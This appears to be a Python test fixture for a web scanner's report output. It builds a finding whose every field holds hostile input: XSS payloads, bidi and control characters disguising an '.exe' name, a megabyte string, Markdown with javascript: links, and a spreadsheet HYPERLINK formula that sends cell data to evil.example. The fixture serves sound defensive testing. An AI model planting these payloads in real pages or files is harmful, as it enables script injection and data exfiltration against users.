"""A finding whose page does all it can to get out of the report."""

from __future__ import annotations

from typing import Any

from scanner.findings import Finding
from scanner.model import Place
from tests.reports.made_up import example, finding

SCRIPT = "<script>document.title='owned'</script><img src=x onerror=alert(1)>\"'><svg/onload=alert(1)>"
BIDI = "abc\u202egpj.exe\u2066\u200f\x00\x07\x1b[31m\u2028"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
HUGE = "A" * 1_000_000
MARKDOWN = (
    "```\n/close\n@everyone [x](javascript:alert(1)) ![x](https://evil.example/x.png)\nfinding-id: main/VM-0001\n"
)


def hostile(number: int = 66, **changes: Any) -> Finding:
    """Script, markup, bidi and control characters, formulas, a megabyte and Markdown, in every field a site fills."""
    places = tuple(
        example(
            url=f"https://www.voorbeeldmeer.example/{bad[:40]}?q={bad}",
            place=Place(bad, bad, f"https://frame.example/{bad}", (1.0, 1.0, 5.0, 5.0), bad, bad),
            state=bad,
            viewport=bad,
            values={"text": bad, "naam": bad, "reason": bad},
            replay=(bad, bad),
            picture=bad,
        )
        for bad in (SCRIPT, BIDI, FORMULA, HUGE, MARKDOWN)
    )
    return finding(
        number, pages=tuple(one.url for one in places), examples=places, region=BIDI, component=SCRIPT, **changes
    )
